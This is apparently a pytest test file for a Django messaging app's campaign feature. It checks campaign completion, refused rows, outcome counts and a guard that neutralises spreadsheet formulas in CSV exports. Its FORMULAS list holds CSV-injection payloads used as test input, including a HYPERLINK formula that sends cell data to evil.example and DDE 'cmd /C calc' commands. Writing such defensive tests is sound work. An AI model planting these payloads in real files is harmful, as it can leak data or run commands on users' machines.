"""Campaign outcomes (API.md "Campaign outcomes"): a campaign is completed only once every recipient has a final
outcome; refused rows are kept, counted and exported with their reasons; the export never holds a cell a
spreadsheet would run as a formula."""

import csv
import io

import pytest
from django.utils import timezone

from channels_app.csv_exports import spreadsheet_safe
from channels_app.models import Campaign, Delivery
from channels_app.services.campaigns import campaign_create, campaign_run_batch, campaign_transition, campaigns_tick
from channels_app.services.deliveries import delivery_attempt
from tests.test_campaigns import FIELDS, SPEC_RESPONSE, create, recipient, response, simulator  # noqa: F401

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_begins_like_a_formula_gets_a_leading_quote(cell):
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["15550000001", "John", "a=b", "", " =1", "'quoted"])
def test_other_cells_are_left_as_they_are(cell):
    assert spreadsheet_safe(cell) == cell


def test_numbers_the_server_writes_are_left_as_numbers():
    assert (spreadsheet_safe(-3), spreadsheet_safe(2), spreadsheet_safe(None)) == (-3, 2, None)


@pytest.mark.parametrize("cell", ["+14155550101", "-12.5", "+3", "-0.5", "-7", "+442071838750"])
def test_a_cell_that_is_a_number_or_an_e164_phone_number_is_data_not_a_formula(cell):
    # (issue 22, item 3: the guard wrote '+14155550101)
    assert spreadsheet_safe(cell) == cell


@pytest.mark.parametrize("cell", ["+1-2", "-1+cmd|' /C calc'!A0", "+", "-", "+1e5", "-1.2.3", "+١٢٣", "+12 ",
                                  "\t12", "-12.5\n"])
def test_a_cell_that_only_begins_like_a_number_keeps_the_guard(cell):
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.django_db
def test_the_results_export_lists_every_row_with_its_outcome_and_runs_no_formula(staff_api, response):  # noqa: F811
    # given an audience with good rows, refused rows whose values are formulas, and a repeated client id
    rows = [recipient(1), *({"client_id": formula, **FIELDS} for formula in FORMULAS), recipient(1),
            recipient(2, Contact={"FirstName": "=1+1"})]
    created = create(staff_api, rows)
    assert created.status_code == 201, created.json()
    campaign_id = created.json()["id"]

    # when the results are exported
    exported = staff_api.get(f"/api/campaigns/{campaign_id}/results/").content.decode()

    # then every row is there, in order, each with its outcome, and no cell starts like a formula
    table = list(csv.reader(io.StringIO(exported)))
    header, lines = table[0], table[1:]
    by_column = [dict(zip(header, line, strict=True)) for line in lines]
    assert [line["row"] for line in by_column] == [str(n) for n in range(1, len(rows) + 1)]
    assert [line["status"] for line in by_column] == ["pending"] + ["refused"] * (len(FORMULAS) + 1) + ["refused"]
    assert all(line["error"] for line in by_column[1:])
    for line in lines:
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), line
    # (client ids are stored stripped of white space)
    assert [line["client_id"] for line in by_column[1 : len(FORMULAS) + 1]] == ["'" + f.strip() for f in FORMULAS]
    counts = staff_api.get(f"/api/campaigns/{campaign_id}/").json()
    assert {key: counts[key] for key in ("total", "refused", "pending", "sent", "delivered", "failed")} == {
        "total": len(rows), "refused": len(rows) - 1, "pending": 1, "sent": 0, "delivered": 0, "failed": 0}


@pytest.mark.django_db
def test_a_csv_audience_row_that_breaks_the_text_rules_is_refused_with_its_row_number(staff_api, response):  # noqa: F811
    from django.core.files.uploadedfile import SimpleUploadedFile

    csv_text = ("client_id,Contact.FirstName,Contact.LastName,Contact.MyFC_BillAmount,Contact.MyFC_Date,"
                "CustomProperties.CustomProp_Date,CustomProperties.CustomProp Time\n"
                "15550000001,John,Smith,$1,May 1,May 2,3 PM\n"
                "15550000002,Jo\x00hn,Smith,$1,May 1,May 2,3 PM\n")

    created = staff_api.post("/api/campaigns/", {
        "name": "CSV", "channel": "channel-ghub-simulator", "standard_response": SPEC_RESPONSE["id"],
        "file": SimpleUploadedFile("audience.csv", csv_text.encode()),
    }, format="multipart")

    assert created.status_code == 201, created.json()
    report = created.json()["audience_report"]
    assert report["accepted"] == 1
    assert report["rejected"][0]["row"] == 2 and "NUL" in report["rejected"][0]["errors"][0]
    refused = Campaign.objects.get().recipients.get(row_number=2)
    assert refused.status == "refused" and refused.contact_fields == {}


@pytest.mark.django_db
def test_a_campaign_is_completed_only_when_every_recipient_has_a_final_outcome(webhook_channel, receiver, staff_api,
                                                                               django_capture_on_commit_callbacks):
    # given a campaign of one recipient on a webhook channel whose third party is down (it answers 503)
    assert staff_api.post("/api/standard-responses/", SPEC_RESPONSE, format="json").status_code == 201
    campaign, _report = _campaign(webhook_channel)
    with django_capture_on_commit_callbacks(execute=False):
        campaign_transition(campaign_id=campaign.pk, action="start")
    receiver.plan.append(503)

    # when its batch has run (the webhook failed and waits for its retry) and the watch ticks
    assert campaign_run_batch(campaign_id=campaign.pk) == 1
    assert campaign_run_batch(campaign_id=campaign.pk) == 0
    campaigns_tick()

    # then it is still running, with its recipient pending
    campaign.refresh_from_db()
    counts = staff_api.get(f"/api/campaigns/{campaign.pk}/").json()
    assert campaign.state == "running"
    assert (counts["state"], counts["pending"], counts["refused"], counts["total"]) == ("running", 1, 1, 2)

    # when the retry is accepted
    delivery = Delivery.objects.get()
    Delivery.objects.filter(pk=delivery.pk).update(next_attempt_at=timezone.now())
    delivery_attempt(delivery_id=delivery.pk)
    campaigns_tick()

    # then every recipient has its final outcome: completed
    counts = staff_api.get(f"/api/campaigns/{campaign.pk}/").json()
    assert (counts["state"], counts["pending"], counts["sent"], counts["refused"]) == ("completed", 0, 1, 1)


@pytest.mark.django_db
def test_a_recipient_whose_delivery_failed_after_its_last_attempt_is_final(webhook_channel, receiver, staff_api,
                                                                           django_capture_on_commit_callbacks):
    assert staff_api.post("/api/standard-responses/", SPEC_RESPONSE, format="json").status_code == 201
    campaign, _report = _campaign(webhook_channel)
    with django_capture_on_commit_callbacks(execute=False):
        campaign_transition(campaign_id=campaign.pk, action="start")
    receiver.plan.append(400)  # a 4xx: failed, not retried

    campaign_run_batch(campaign_id=campaign.pk)
    campaigns_tick()

    counts = staff_api.get(f"/api/campaigns/{campaign.pk}/").json()
    assert (counts["state"], counts["failed"], counts["refused"], counts["pending"]) == ("completed", 1, 1, 0)


def _campaign(channel):
    from channels_app.models import StandardResponse

    return campaign_create(name="Down", channel=channel, standard_response=StandardResponse.objects.get(),
                           rows=[recipient(1), {"client_id": "not-a-phone", **FIELDS}])


def _recount(campaign) -> dict:
    """The counts the slow way: every recipient joined to its message."""
    from channels_app.models import CampaignRecipient
    from channels_app.models.campaigns import RECIPIENT_STATUS_BY_MESSAGE

    counts = {"total": 0, "refused": 0, "pending": 0, "sent": 0, "delivered": 0, "failed": 0}
    for row in CampaignRecipient.objects.filter(campaign=campaign).select_related("message"):
        status = "refused" if row.error else RECIPIENT_STATUS_BY_MESSAGE.get(
            row.message.status if row.message else "queued", "pending")
        counts[status] += 1
        counts["total"] += 1
    return counts


@pytest.mark.django_db
@pytest.mark.usefixtures("response")
def test_the_counts_kept_by_the_database_match_a_recount_at_every_step(staff_api, django_assert_max_num_queries):
    from channels_app.models import Campaign, Message
    from channels_app.services.campaigns import campaign_counts, campaign_run_batch
    from channels_app.services.receipts import receipt_apply

    rows = [recipient(n) for n in range(1, 9)] + [{"client_id": "not-a-phone"}, recipient(1)]
    campaign = Campaign.objects.get(pk=create(staff_api, rows).json()["id"])
    assert campaign_counts(campaign=campaign) == _recount(campaign) == {
        "total": 10, "refused": 2, "pending": 8, "sent": 0, "delivered": 0, "failed": 0}

    staff_api.post(f"/api/campaigns/{campaign.pk}/start/")
    campaign_run_batch(campaign_id=campaign.pk)  # the simulator accepts them all: sent
    assert campaign_counts(campaign=campaign) == _recount(campaign)
    sent = list(Message.objects.filter(campaign_recipient__campaign=campaign).order_by("pk"))
    receipt_apply(channel=sent[0].channel, external_id=sent[0].external_id, status="Delivered")
    receipt_apply(channel=sent[1].channel, external_id=sent[1].external_id, status="Failed", reasons=[{"code": 350}])
    receipt_apply(channel=sent[2].channel, external_id=sent[2].external_id, status="Removed")
    receipt_apply(channel=sent[0].channel, external_id=sent[0].external_id, status="Delivered")  # again
    counts = campaign_counts(campaign=campaign)

    assert counts == _recount(campaign)
    assert (counts["delivered"], counts["failed"], counts["sent"] + counts["pending"]) == (1, 2, 5)
    with django_assert_max_num_queries(1):  # however many recipients
        campaign_counts(campaign=campaign)
